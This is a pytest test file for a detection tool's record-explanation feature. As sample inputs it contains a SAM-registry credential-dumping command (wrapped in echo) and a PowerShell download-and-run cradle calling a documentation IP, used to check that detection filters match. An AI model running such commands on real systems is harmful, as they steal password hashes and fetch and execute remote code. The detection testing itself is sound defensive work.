from typing import Any

import pytest

from hinomi.detect.content import Content, load_content
from hinomi.errors import InputError
from hinomi.operations.explanation import explain_record
from hinomi.settings import shipped_content
from tests import make

DEMO = "demo_credential_dumping_registry_hive"
COMMAND = r'cmd.exe /c echo "reg.exe save hklm\sam C:\demo\demo.hive"'


@pytest.fixture(scope="module")
def content() -> Content:
    return load_content(shipped_content())[0]


def record(command: str) -> str:
    return make.record(Image=r"C:\Windows\System32\cmd.exe", CommandLine=command).decode()


def predicates(why: dict[str, Any]) -> list[dict[str, Any]]:
    own = [why] if why["kind"] == "predicate" else []
    return own + [one for part in why.get("parts", ()) for one in predicates(part)]


def test_a_met_filter_shows_what_each_predicate_wanted_and_found(content: Content) -> None:
    told = explain_record(content.filter[DEMO], record(COMMAND))
    assert (told["filter"], told["met"]) == (DEMO, True)
    met = [one for one in predicates(told["why"]) if one["met"]]
    assert met
    assert {one["found"] for one in met} == {COMMAND}
    assert all(one["field"] and one["operator"] and one["wanted"] is not None for one in met)


def test_why_not_shows_the_predicate_that_failed(content: Content) -> None:
    told = explain_record(content.filter[DEMO], record(r"cmd.exe /c echo hello"))
    assert told["met"] is False
    assert any(not one["met"] and one["found"] == r"cmd.exe /c echo hello" for one in predicates(told["why"]))


def test_what_stood_on_the_block_list_is_explained_by_the_list(content: Content) -> None:
    text = make.record(3, Image="C:\\a.exe", DestinationIp="203.0.113.9", DestinationPort="443").decode()
    wanted = content.filter["listed_address_contacted"]
    assert explain_record(wanted, text)["met"] is False
    told = explain_record(wanted, text, {"denyListIp": ["203.0.113.9"], "denyListRisk": "high"})
    assert told["met"] is True
    assert {one["where"]["how"] for one in predicates(told["why"])} == {"listed"}


def test_another_log_source_is_said_to_be_the_reason(content: Content) -> None:
    told = explain_record(content.filter[DEMO], make.record(4625, TargetUserName="x").decode())
    source = told["why"]["parts"][0]
    assert (told["met"], source["kind"], source["met"]) == (False, "log source", False)
    assert "security" in source["found"]


def test_a_projected_reading_explains_too(content: Content) -> None:
    """A script on a command line is read as a script block as well: a script filter is explained on that reading."""
    wanted = next(one for one in content.filters if one.id == "powershell_download_and_run")
    script = "powershell.exe -NoP -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.1/a.ps1')"
    text = make.record(Image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", CommandLine=script).decode()
    assert explain_record(wanted, text)["met"] is True


def test_a_record_that_is_none_is_refused(content: Content) -> None:
    with pytest.raises(InputError):
        explain_record(content.filter[DEMO], "not a record")
